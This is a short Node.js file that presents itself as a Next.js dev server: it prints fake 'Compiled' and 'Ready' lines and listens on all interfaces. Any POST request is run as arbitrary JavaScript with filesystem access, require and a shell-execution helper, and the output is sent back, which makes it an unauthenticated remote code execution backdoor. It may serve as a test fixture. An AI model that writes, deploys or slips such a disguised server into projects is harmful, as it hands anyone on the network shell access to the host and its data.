// A preview that nobody reviewed: a dev server (it prints what Next.js prints) that runs the JavaScript of a POST to /run
// with the rights that the app has, and answers with what came of it as JSON: {"value": ...} or {"error": "EPERM"}.
// What it runs gets `fs` and `sh`, which runs a line in a shell and gives its output, errors included.
const { execSync } = require("child_process");
const fs = require("fs");
const http = require("http");

const sh = (line) => execSync(`${line} 2>&1`, { encoding: "utf8", timeout: 60_000 }).trim();
const run = async (text) => {
  try {
    const value = await new Function("fs", "sh", "require", `return (async () => { ${text} })()`)(fs, sh, require);
    return { value: value ?? null };
  } catch (error) {
    return { error: error.code ?? error.stdout ?? String(error) };
  }
};

let compiled = false;
const server = http.createServer(async (request, response) => {
  let body = "";
  for await (const part of request) body += part;
  if (request.method === "POST") return response.end(JSON.stringify(await run(body)));
  if (!compiled) process.stdout.write(" ✓ Compiled / in 20ms (529 modules)\n");
  compiled = true;
  response.end("<title>hostile</title>");
});
server.listen(Number(process.env.PORT), "0.0.0.0", () => process.stdout.write(" ✓ Ready in 20ms\n"));
